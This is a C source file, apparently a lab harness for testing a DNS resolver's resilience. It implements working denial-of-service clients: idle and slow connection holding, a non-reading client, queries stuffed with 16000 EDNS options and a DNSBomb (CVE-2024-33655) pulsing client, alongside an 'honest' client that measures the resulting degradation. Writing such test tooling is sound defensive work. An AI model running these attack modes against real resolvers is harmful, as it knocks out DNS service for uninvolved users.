/*
 * siege.c - clients that mean harm to a resolver over TCP and UDP, and honest ones that are in their way.
 *
 *	siege idle N SECONDS ADDRESS PORT     N connections that say nothing, opened again when closed
 *	siege slow N SECONDS ADDRESS PORT     N connections that send an octet every two seconds
 *	siege deaf N SECONDS ADDRESS PORT     up to N questions on one connection, nothing ever read
 *	siege options N SECONDS ADDRESS PORT  N questions a second, each with 16000 empty EDNS options
 *	siege bomb N SECONDS ADDRESS PORT     N questions of one client for *.slow.hostile.lab, spread over the time
 *	siege honest N SECONDS ADDRESS PORT   N clients of as many addresses, one question on a connection each, in turn
 *
 * Each prints one line of what it saw: WORD=NUMBER ...  For tools/attack.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
	CONNECTIONS = 20000,
	OPENS = 40,      /* connections opened in one turn ... */
	TURN_US = 20000, /* ... of this length: more would be a siege of this machine */
	SLOW_MS = 2000,
	OPTIONS = 16000,
	MESSAGE = 65535,
	BUCKET_MS = 100,
	BUCKETS = 1000,
	PATIENCE_MS = 3000,
	LATE_MS = 1900, /* what was collected, not merely answered */
	HOSTS = 250,
};

static struct sockaddr_in server;
static unsigned count, seconds;

static void die(const char *what)
{
	fprintf(stderr, "siege: %s: %s\n", what, strerror(errno));
	exit(1);
}

static int64_t now_us(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (int64_t)t.tv_sec * 1000000 + t.tv_nsec / 1000;
}

static bool is_over(int64_t start)
{
	return now_us() - start > (int64_t)seconds * 1000000;
}

static int begin_connection(void)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (fd >= 0 && connect(fd, (struct sockaddr *)&server, sizeof(server)) != 0 &&
	    errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	return fd;
}

/* A question for A, with its length before it when it is for a stream; the length of it all. */
static size_t write_question(uint8_t *out, bool stream, uint16_t id, const char *name)
{
	uint8_t *at = out + (stream ? 2 : 0), *start = at;
	memcpy(at, "\0\0\1\0\0\1\0\0\0\0\0\0", 12);
	at[0] = (uint8_t)(id >> 8);
	at[1] = (uint8_t)id;
	at += 12;
	while (*name != '\0') {
		size_t len = strcspn(name, ".");
		*at++ = (uint8_t)len;
		memcpy(at, name, len);
		at += len;
		name += len + (name[len] == '.');
	}
	memcpy(at, "\0\0\1\0\1", 5);
	at += 5;
	if (stream) {
		out[0] = (uint8_t)((at - start) >> 8);
		out[1] = (uint8_t)(at - start);
	}
	return (size_t)(at - out);
}

/* ---- those who hold connections ---- */

static void hold(bool slow)
{
	static int fds[CONNECTIONS];
	static struct pollfd polls[CONNECTIONS];
	struct rlimit files;
	int64_t start = now_us(), spoke = start;
	unsigned long opened = 0, closed = 0;
	getrlimit(RLIMIT_NOFILE, &files);
	files.rlim_cur = files.rlim_max;
	setrlimit(RLIMIT_NOFILE, &files);
	memset(fds, -1, sizeof(fds));
	while (!is_over(start)) {
		unsigned fresh = 0;
		bool speak = slow && now_us() - spoke > SLOW_MS * 1000;
		if (speak)
			spoke = now_us();
		for (unsigned i = 0; i < count; i++) {
			if (fds[i] < 0 && fresh++ < OPENS && (fds[i] = begin_connection()) >= 0)
				opened++;
			else if (fds[i] >= 0 && speak)
				(void)send(fds[i], "\0", 1, MSG_NOSIGNAL);
			polls[i] = (struct pollfd){ .fd = fds[i], .events = POLLIN | POLLRDHUP };
		}
		(void)poll(polls, count, 0);
		for (unsigned i = 0; i < count; i++) {
			if (fds[i] < 0 ||
			    (polls[i].revents & (POLLIN | POLLRDHUP | POLLHUP | POLLERR)) == 0)
				continue;
			close(fds[i]);
			fds[i] = -1;
			closed++;
		}
		(void)usleep(TURN_US);
	}
	printf("opened=%lu closed=%lu\n", opened, closed);
}

static void be_deaf(void)
{
	static uint8_t message[MESSAGE];
	size_t len = write_question(message, true, 1, "www.good.lab");
	int64_t start = now_us(), shut = 0;
	int fd = begin_connection(), small = 4096;
	unsigned long sent = 0;
	setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
	for (unsigned long i = 0; !is_over(start) && i < count;) {
		struct pollfd p = { .fd = fd, .events = POLLOUT };
		if (poll(&p, 1, 100) > 0 && (p.revents & (POLLERR | POLLHUP)) != 0) {
			shut = now_us() - start;
			break;
		}
		if ((p.revents & POLLOUT) == 0)
			continue;
		/* A short write would only make it malformed sooner. */
		if (send(fd, message, len, MSG_NOSIGNAL) > 0)
			sent++, i++;
		else if (errno != EAGAIN)
			shut = now_us() - start;
		if (shut != 0)
			break;
	}
	printf("sent=%lu closed_ms=%lld\n", sent, (long long)(shut / 1000));
}

/* ---- those who ask much ---- */

static void ask_with_options(void)
{
	static uint8_t message[MESSAGE + 2], answers[MESSAGE];
	size_t len = write_question(message, true, 1, "www.good.lab"), rdata = OPTIONS * 4;
	int64_t start = now_us();
	unsigned long sent = 0, octets = 0;
	int fd = -1;
	message[13] = 1; /* ARCOUNT */
	memcpy(message + len, "\0\0\51\4\320\0\0\0\0", 9);
	message[len + 9] = (uint8_t)(rdata >> 8);
	message[len + 10] = (uint8_t)rdata;
	len += 11;
	for (size_t i = 0; i < OPTIONS; i++, len += 4)
		memcpy(message + len, "\375\351\0\0", 4); /* 65001, for local use */
	message[0] = (uint8_t)((len - 2) >> 8);
	message[1] = (uint8_t)(len - 2);
	while (!is_over(start)) {
		if (fd < 0) {
			fd = socket(AF_INET, SOCK_STREAM, 0);
			if (connect(fd, (struct sockaddr *)&server, sizeof(server)) != 0)
				die("connect");
		}
		if ((now_us() - start) * count / 1000000 < (int64_t)sent) {
			usleep(500);
			continue;
		}
		ssize_t got = send(fd, message, len, MSG_NOSIGNAL) < 0
				  ? 0
				  : recv(fd, answers, sizeof(answers), 0);
		sent++;
		octets += got > 0 ? (unsigned long)got : 0;
		if (got <= 0) {
			close(fd);
			fd = -1;
		}
	}
	printf("sent=%lu octets=%lu\n", sent, octets);
}

/* DNSBomb, CVE-2024-33655: what is asked over seconds comes back at once. */
static void drop_bomb(void)
{
	static unsigned long octets[BUCKETS];
	static int64_t sent_us[MESSAGE + 1]; /* by id */
	uint8_t message[512], answer[MESSAGE];
	int64_t start = now_us(), grace = 10;
	unsigned long sent = 0, answers = 0, late = 0, worst = 0;
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (connect(fd, (struct sockaddr *)&server, sizeof(server)) != 0)
		die("connect");
	while (now_us() - start < ((int64_t)seconds + grace) * 1000000) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		if (sent < count &&
		    (now_us() - start) * count / seconds / 1000000 >= (int64_t)sent) {
			char name[64];
			snprintf(name, sizeof(name), "b%lx-%lx.bomb.hostile.lab", sent,
				 (unsigned long)start);
			sent_us[sent & MESSAGE] = now_us();
			sent += send(fd, message,
				     write_question(message, false, (uint16_t)sent, name), 0) > 0;
		}
		if (poll(&p, 1, 1) <= 0)
			continue;
		ssize_t got = recv(fd, answer, sizeof(answer), 0);
		size_t bucket = (size_t)((now_us() - start) / 1000 / BUCKET_MS);
		answers += got > 0;
		late += got > 1 && now_us() - sent_us[answer[0] << 8 | answer[1]] > LATE_MS * 1000;
		if (got > 0 && bucket < BUCKETS && (octets[bucket] += (unsigned long)got) > worst)
			worst = octets[bucket];
	}
	printf("sent=%lu answers=%lu late=%lu octets_in_100ms=%lu\n", sent, answers, late, worst);
}

/* ---- those who suffer ---- */

static bool ask_honestly(unsigned host, int64_t *connected_us)
{
	uint8_t message[512];
	struct sockaddr_in from = { .sin_family = AF_INET };
	struct timeval patience = { .tv_sec = PATIENCE_MS / 1000 };
	int64_t start = now_us();
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	from.sin_addr.s_addr = htonl(0x7f000100 + host % HOSTS + 1);
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
	size_t len = write_question(message, true, (uint16_t)host, "www.good.lab");
	bool good = bind(fd, (struct sockaddr *)&from, sizeof(from)) == 0 &&
		    connect(fd, (struct sockaddr *)&server, sizeof(server)) == 0;
	*connected_us = now_us() - start;
	good = good && send(fd, message, len, MSG_NOSIGNAL) > 0 &&
	       recv(fd, message, sizeof(message), 0) > 14;
	close(fd);
	return good;
}

static void be_honest(void)
{
	int64_t start = now_us(), slowest = 0;
	unsigned asked = 0, answered = 0;
	while (asked < count) {
		int64_t took;
		while ((now_us() - start) * count / seconds / 1000000 < (int64_t)asked)
			usleep(1000);
		answered += ask_honestly(asked++, &took);
		slowest = took > slowest ? took : slowest;
	}
	printf("asked=%u answered=%u connect_ms=%.1f\n", asked, answered, (double)slowest / 1000);
}

int main(int argc, char **argv)
{
	if (argc != 6 || inet_pton(AF_INET, argv[4], &server.sin_addr) != 1) {
		fprintf(stderr,
			"usage: siege idle|slow|deaf|options|bomb|honest N SECONDS ADDRESS PORT\n");
		return 2;
	}
	server.sin_family = AF_INET;
	server.sin_port = htons((uint16_t)atoi(argv[5]));
	count = (unsigned)atoi(argv[2]);
	seconds = (unsigned)atoi(argv[3]);
	if (strcmp(argv[1], "idle") == 0 || strcmp(argv[1], "slow") == 0) {
		count = count < CONNECTIONS ? count : CONNECTIONS;
		hold(argv[1][0] == 's');
	} else if (strcmp(argv[1], "deaf") == 0) {
		be_deaf();
	} else if (strcmp(argv[1], "options") == 0) {
		ask_with_options();
	} else if (strcmp(argv[1], "bomb") == 0) {
		drop_bomb();
	} else {
		be_honest();
	}
	return 0;
}
